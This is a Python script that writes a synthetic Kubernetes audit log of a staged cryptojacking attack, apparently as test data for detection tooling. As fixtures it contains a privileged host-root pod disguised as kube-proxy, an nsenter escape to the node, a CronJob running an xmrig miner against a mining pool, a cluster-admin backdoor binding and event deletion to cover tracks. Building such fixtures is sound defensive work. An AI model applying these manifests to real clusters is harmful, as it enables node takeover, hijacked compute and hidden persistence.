#!/usr/bin/env python3
"""Writes cryptojacking-attack.jsonl: the Kubernetes audit log of the attack on the example
shop (see ../README.md), as the API server's log backend would write it. Our own data.

Run: python3 examples/audit/make_attack_log.py  (rewrites the .jsonl next to this script)
"""
import json
import os
from datetime import datetime, timedelta, timezone

START = datetime(2026, 11, 26, 10, 0, 0, tzinfo=timezone.utc)
ATTACKER_IP = "203.0.113.50"
SPRAY_IP = "198.51.100.23"
CI = "system:serviceaccount:shop:ci"
CI_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:shop", "system:authenticated"]
events = []
counter = [0]


def ts(seconds):
    return (START + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"


def event(t, verb, user, groups, resource, namespace=None, name=None, subresource=None,
          code=200, ip=ATTACKER_IP, agent="kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46",
          request=None, uri=None, stages=("ResponseComplete",), api_group="", decision="allow"):
    counter[0] += 1
    audit_id = f"7f3c2a10-0000-4000-8000-{counter[0]:012d}"
    path = "/api/v1" if api_group == "" else f"/apis/{api_group}/v1"
    if namespace:
        path += f"/namespaces/{namespace}"
    path += f"/{resource}"
    if name:
        path += f"/{name}"
    if subresource:
        path += f"/{subresource}"
    object_ref = {"resource": resource, "apiVersion": "v1"}
    if api_group:
        object_ref["apiGroup"] = api_group
    if namespace:
        object_ref["namespace"] = namespace
    # For a create the URI has no name, but the API server fills objectRef.name from the body.
    body_name = (request or {}).get("metadata", {}).get("name")
    if name or body_name:
        object_ref["name"] = name or body_name
    if subresource:
        object_ref["subresource"] = subresource
    for i, stage in enumerate(stages):
        e = {
            "kind": "Event", "apiVersion": "audit.k8s.io/v1",
            "level": "RequestResponse" if request else "Metadata",
            "auditID": audit_id, "stage": stage,
            "requestURI": uri or path, "verb": verb,
            "user": {"username": user, "groups": groups},
            "sourceIPs": [ip], "userAgent": agent, "objectRef": object_ref,
            "requestReceivedTimestamp": ts(t), "stageTimestamp": ts(t + 0.004 * (i + 1)),
            "annotations": {"authorization.k8s.io/decision": decision,
                            "authorization.k8s.io/reason": "" if decision == "forbid" else "RBAC: allowed"},
        }
        if stage != "RequestReceived":
            e["responseStatus"] = {"metadata": {}, "code": code}
        if request is not None:
            e["requestObject"] = request
        events.append(e)


def pod(name, namespace, containers, **spec):
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": name, "namespace": namespace},
            "spec": {"containers": containers, **spec}}


# 1. The exposed door: anonymous requests work because of the status-page binding.
event(0, "list", "system:anonymous", ["system:unauthenticated"], "pods", agent="curl/8.5.0")
# 2. Password spraying against the API server from another address.
for i in range(25):
    event(5 + i * 0.8, "get", "system:anonymous", ["system:unauthenticated"], "namespaces",
          code=401, ip=SPRAY_IP, agent="python-requests/2.31.0", decision="forbid")
# 3. The stolen CI token: discovery, then secrets.
for i, (res, group) in enumerate([("namespaces", ""), ("pods", ""), ("nodes", ""),
                                  ("clusterroles", "rbac.authorization.k8s.io"),
                                  ("clusterrolebindings", "rbac.authorization.k8s.io"),
                                  ("serviceaccounts", ""), ("configmaps", ""), ("deployments", "apps"),
                                  ("daemonsets", "apps"), ("services", ""), ("roles", "rbac.authorization.k8s.io"),
                                  ("rolebindings", "rbac.authorization.k8s.io"), ("secrets", ""),
                                  ("ingresses", "networking.k8s.io"), ("cronjobs", "batch"),
                                  ("jobs", "batch"), ("endpoints", ""), ("events", ""),
                                  ("persistentvolumes", ""), ("storageclasses", "storage.k8s.io"),
                                  ("networkpolicies", "networking.k8s.io"), ("leases", "coordination.k8s.io")]):
    event(120 + i * 1.5, "list", CI, CI_GROUPS, res, api_group=group, stages=("RequestReceived", "ResponseComplete"))
for i, ns in enumerate(["default", "shop", "monitoring", "kube-system", "kubernetes-dashboard", "kube-flannel"]):
    event(154 + i, "list", CI, CI_GROUPS, "pods", namespace=ns)
event(160, "get", CI, CI_GROUPS, "secrets", namespace="shop", name="storefront")
# 4. A privileged pod that looks like kube-proxy, with the host's root and PID namespace.
attack_pod = pod("kube-proxy-7xk2p", "shop", [{
    "name": "kube-proxy", "image": "docker.io/library/alpine:latest",
    "command": ["/bin/sh", "-c", "sleep infinity"],
    "securityContext": {"privileged": True},
    "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
    hostPID=True, hostNetwork=True, serviceAccountName="ci",
    volumes=[{"name": "host", "hostPath": {"path": "/"}}])
event(180, "create", CI, CI_GROUPS, "pods", namespace="shop", code=201, request=attack_pod,
      stages=("RequestReceived", "ResponseComplete"))
# 5. Into the pod, and from there into the node (what the node's runtime sensor saw meanwhile:
#    ../runtime/make_runtime_recording.py).
event(210, "create", CI, CI_GROUPS, "pods", namespace="shop", name="kube-proxy-7xk2p", subresource="exec",
      code=101, uri="/api/v1/namespaces/shop/pods/kube-proxy-7xk2p/exec?command=nsenter&command=-t&command=1"
                    "&command=-m&command=-u&command=-i&command=-n&command=-p&command=sh&container=kube-proxy&stdin=true&tty=true",
      stages=("ResponseStarted", "ResponseComplete"))
# 6. Persistence and profit: a CronJob running a miner against a stratum pool.
cronjob = {"kind": "CronJob", "apiVersion": "batch/v1",
           "metadata": {"name": "log-rotate", "namespace": "shop"},
           "spec": {"schedule": "*/10 * * * *", "jobTemplate": {"spec": {"template": {"spec": {
               "restartPolicy": "OnFailure",
               "containers": [{"name": "rotate", "image": "docker.io/xmrig/xmrig:6.21.0",
                               "args": ["-o", "stratum+tcp://pool.example.net:3333", "-u", "48bWallet",
                                        "--cpu-max-threads-hint=90"]}]}}}}}}
event(300, "create", CI, CI_GROUPS, "cronjobs", namespace="shop", code=201, request=cronjob, api_group="batch")
# 7. A way back in: cluster-admin for the CI account.
binding = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
           "metadata": {"name": "ci-admin"},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
           "subjects": [{"kind": "ServiceAccount", "name": "ci", "namespace": "shop"}]}
event(330, "create", CI, CI_GROUPS, "clusterrolebindings", name=None, code=201, request=binding,
      api_group="rbac.authorization.k8s.io")
# 8. Covering tracks: the namespace's events.
event(360, "deletecollection", CI, CI_GROUPS, "events", namespace="shop", code=200)
# Ordinary traffic in between, which must stay quiet.
for i in range(40):
    event(10 + i * 9, "get", "system:serviceaccount:kube-system:deployment-controller",
          ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
          "deployments", namespace="shop", name="storefront", api_group="apps", ip="10.0.0.2",
          agent="kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/system:serviceaccount:kube-system:deployment-controller")
    event(12 + i * 9, "watch", "system:node:worker-1", ["system:nodes", "system:authenticated"],
          "pods", ip="10.0.0.11", agent="kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46")

events.sort(key=lambda e: e["stageTimestamp"])
out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cryptojacking-attack.jsonl")
with open(out, "w") as f:
    for e in events:
        f.write(json.dumps(e, separators=(",", ":")) + "\n")
print(f"wrote {len(events)} events to {out}")
